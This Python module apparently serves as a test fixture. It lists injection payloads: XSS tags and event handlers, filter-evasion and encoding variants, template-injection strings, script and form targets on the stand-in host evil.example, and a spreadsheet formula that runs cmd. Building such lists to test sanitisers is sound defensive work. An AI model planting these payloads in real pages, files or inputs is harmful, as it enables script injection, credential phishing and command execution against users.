"""Words that try to become code: in elements, in attributes, in scripts, in styles, in addresses, by odd characters."""

from __future__ import annotations

_TAGS = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</title><script>alert(1)</script>", "</textarea><img src=x>",
    "<iframe src=javascript:alert(1)></iframe>", "<object data=x>", "<embed src=x>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>",
    "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x>\">",
    "<template><script>alert(1)</script></template>", "<style>*{display:none}</style>", "<plaintext>", "<xmp><script>", "<!--", "-->", "<!doctype html>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
]  # fmt: skip
_ATTRIBUTES = [
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" style="color:red',
    '" autofocus onfocus=alert(1) x="', "` onmouseover=alert(1)", "x onclick=alert(1)", '" href="javascript:alert(1)', "\" data-event=\"0",
    '" id="play', "a\tonclick=alert(1)",
]  # fmt: skip
_SCRIPTS = [
    "';alert(1);//", '";alert(1);//', "\\';alert(1);//", "${alert(1)}", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "<%= 7*7 %>",
    "\\u003cscript\\u003ealert(1)", "\u2028alert(1)\u2029", "</ScRiPt >", "//--></script>", "__proto__", "constructor",
]  # fmt: skip
_ADDRESSES = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "vbscript:msgbox(1)",
    "url(//evil.example/x)",
]
_CHARACTERS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\uff1cscript\uff1e", "\u202etpircs\u202c",
    "\ufeff<script>", "a\0<script>", "&", "&amp;amp;", "]]>", "=cmd|' /C calc'!A0",
]  # fmt: skip
PAYLOADS = (*_TAGS, *_ATTRIBUTES, *_SCRIPTS, *_ADDRESSES, *_CHARACTERS)
